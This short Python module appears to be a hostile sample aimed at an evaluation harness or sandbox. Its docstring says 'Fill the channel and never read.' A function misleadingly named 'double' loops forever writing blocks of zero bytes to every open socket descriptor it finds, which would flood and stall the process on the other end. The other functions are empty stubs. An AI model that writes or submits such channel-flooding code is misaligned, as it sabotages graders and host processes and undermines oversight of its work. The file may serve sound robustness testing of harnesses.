"""Fill the channel and never read."""
import os
import stat


def double(x):
    while True:
        for number in range(3, 32):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, b"\x00" * 65536)
            except OSError:
                pass


def row_softmax(x):
    raise NotImplementedError


count = train = row_softmax
